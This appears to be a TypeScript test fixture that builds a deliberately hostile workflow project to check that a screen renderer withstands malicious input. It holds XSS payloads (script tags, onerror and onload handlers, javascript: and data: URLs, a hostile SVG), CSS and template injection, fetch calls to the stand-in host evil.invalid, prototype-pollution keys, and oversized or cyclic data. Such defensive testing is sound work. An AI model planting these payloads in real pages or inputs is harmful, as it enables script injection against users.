import {
  type Json,
  type ProjectWorkflow,
  buttonOf,
  makeProject,
  screenOf,
  stackOf,
  stepOf,
  textOf,
} from './project-folder.ts';

/** What scripts would do if anybody ran one. */
const evil = "globalThis.hacked=1;alert('hacked');fetch('https://evil.invalid/')";

const markup = [
  `<script>${evil}</script>`,
  `<img src=x onerror="${evil}">`,
  `<svg onload="${evil}"><a href="javascript:${evil}">x</a></svg>`,
  `<iframe srcdoc="&lt;script&gt;${evil}&lt;/script&gt;"></iframe>`,
  `[press](javascript:${encodeURIComponent(evil)})`,
  `**<b onmouseover="${evil}">bold</b>**`,
  `"><style>@import 'https://evil.invalid/x.css'</style>`,
  `{{ constructor.constructor("${evil}")() }} {{ __proto__ }} {{ product.price | ${evil} }}`,
];

const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${evil}">
<script>${evil}</script><image href="https://evil.invalid/x.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${evil}"/></foreignObject>
<rect width="40" height="40" fill="#335577"/></svg>`;

const fixed = (value: unknown): Json => ({ type: 'fixed', value });
const picture = (url: string): Json => ({
  type: 'image',
  id: `image"><script>${evil}</script>`,
  source: {
    light: { original: url, webp: url, webp_low_res: url, heic: url, width: 40, height: 40 },
  },
  size: { width: fixed(40), height: fixed(40) },
  fit_mode: 'fit',
});

const icon: Json = {
  type: 'icon',
  id: 'icon',
  icon_name: 'evil',
  base_url: 'assets',
  formats: { webp: 'evil.svg', svg: 'evil.svg', png: 'evil.svg', heic: 'evil.svg' },
  color: { light: { type: 'hex', value: '#000000ff' } },
  size: { width: fixed(40), height: fixed(40) },
};

const link = (url: string): Json => ({
  type: 'button',
  id: `link"' onclick="${evil}`,
  action: {
    type: 'navigate_to',
    destination: 'url',
    url: { url_lid: url, method: 'in_app_browser' },
  },
  stack: stackOf([textOf('link')]),
});

const css = `red;background:url(https://evil.invalid/x.png)`;

const words = Object.fromEntries(markup.map((text, index) => [`text_${index}`, text]));

const scripts: ProjectWorkflow = {
  offering: 'scripts',
  id: 'wf_scripts',
  body: {
    display_name: markup[0],
    initial_step_id: 'start',
    steps: { start: stepOf('start') },
    screens: {
      start: screenOf(
        `<script>${evil}</script>`,
        [
          ...Object.keys(words).map((lid) => textOf(lid)),
          textOf('link', { color: { light: { type: 'hex', value: css } }, font_name: css }),
          stackOf([], { background_color: { light: { type: 'alias', value: '__proto__' } } }),
          stackOf([], { style: css, class: css, onclick: evil, testId: `"><img src=x>` }),
          picture('assets/evil.svg'),
          picture(`javascript:${evil}`),
          picture('https://evil.invalid/x.png'),
          icon,
          link('script_url'),
          link('data_url'),
        ],
        {
          ...words,
          link: 'A link',
          script_url: `javascript:${evil}`,
          data_url: `data:text/html,<script>${evil}</script>`,
        },
      ),
    },
    ui_config: {
      app: {
        colors: { [css]: { light: { type: 'hex', value: css } } },
        fonts: { [css]: { web: { family: `x';}*{${css}`, url: 'https://evil.invalid/x.woff2' } } },
      },
      localizations: { en_US: { day: markup[0] } },
    },
  },
};

const big = 1e15;
const huge: ProjectWorkflow = {
  offering: 'huge',
  id: 'wf_huge',
  body: {
    initial_step_id: 'start',
    steps: { start: stepOf('start') },
    screens: {
      start: screenOf(
        'Huge',
        [
          textOf('long', { font_size: big }),
          stackOf([textOf('hello')], {
            size: { width: fixed(big), height: fixed(-big) },
            spacing: big,
            padding: { top: big, bottom: 1e308, leading: -big, trailing: 0 },
            shape: { type: 'rectangle', corners: { top_leading: big } },
            border: { color: { light: { type: 'hex', value: '#000000ff' } }, width: big },
            shadow: {
              x: big,
              y: big,
              radius: big,
              color: { light: { type: 'hex', value: '#000' } },
            },
          }),
          { ...picture('assets/evil.svg'), size: { width: fixed(big), height: fixed(big) } },
        ],
        { hello: 'Hello', long: 'enormous '.repeat(20_000) },
      ),
    },
  },
};

const many: ProjectWorkflow = {
  offering: 'many',
  id: 'wf_many',
  body: {
    initial_step_id: 'start',
    steps: { start: stepOf('start') },
    screens: {
      start: screenOf(
        'Many',
        Array.from({ length: 10_000 }, () => textOf('hello')),
        { hello: 'Hello' },
      ),
    },
  },
};

const round = (id: string, to: string): Json =>
  screenOf(`Step ${id}`, [textOf('hello'), buttonOf('next', 'next')], {
    hello: `This is ${id}`,
    next: `On to ${to}`,
  });

const cycle: ProjectWorkflow = {
  offering: 'cycle',
  id: 'wf_cycle',
  body: {
    initial_step_id: 'one',
    steps: {
      one: stepOf('one', { next: 'two' }),
      two: stepOf('two', { next: 'three' }),
      three: stepOf('three', { next: 'one', self: 'three' }),
    },
    screens: { one: round('one', 'two'), two: round('two', 'three'), three: round('three', 'one') },
  },
};

/** Names that every object of JavaScript has; own keys here, which a literal could not write. */
const named = (entries: readonly (readonly [string, unknown])[]): Json =>
  Object.fromEntries(entries);

const names: ProjectWorkflow = {
  offering: '__proto__',
  id: 'constructor',
  body: {
    initial_step_id: '__proto__',
    steps: named([
      ['__proto__', stepOf('__proto__', { constructor: 'constructor' })],
      ['constructor', stepOf('constructor', { toString: '__proto__' })],
    ]),
    screens: named([
      [
        '__proto__',
        screenOf('toString', [textOf('__proto__'), buttonOf('constructor', 'constructor')], {
          ...named([['__proto__', 'This is proto']]),
          constructor: 'On to the constructor',
          hacked: 1,
        }),
      ],
      ['constructor', screenOf('valueOf', [textOf('hello')], { hello: 'This is constructor' })],
    ]),
    ui_config: named([['__proto__', { hacked: 1 }]]),
  },
};

const nearlyFiveMegabytes = 4_900_000;
const heavySteps = 60;

const heavy: ProjectWorkflow = {
  offering: 'heavy',
  id: 'wf_heavy',
  body: {
    initial_step_id: 'step_0',
    steps: Object.fromEntries(
      Array.from({ length: heavySteps }, (_, index) => [
        `step_${index}`,
        stepOf(`step_${index}`, { next: `step_${(index + 1) % heavySteps}` }),
      ]),
    ),
    screens: Object.fromEntries(
      Array.from({ length: heavySteps }, (_, index) => [
        `step_${index}`,
        screenOf(`Step ${index}`, [textOf('hello'), buttonOf('next', 'next')], {
          hello: `This is ${index}`,
          next: 'Next',
          ...Object.fromEntries(
            Array.from({ length: 70 }, (_unused, line) => [
              `line_${line}`,
              'words of ballast '.repeat(Math.floor(nearlyFiveMegabytes / heavySteps / 70 / 18)),
            ]),
          ),
        }),
      ]),
    ),
  },
};

/** Makes a project that means ill, to be removed afterwards. */
export const makeHostileProject = (): string =>
  makeProject([cycle, scripts, huge, many, names, heavy], { 'evil.svg': hostileSvg });
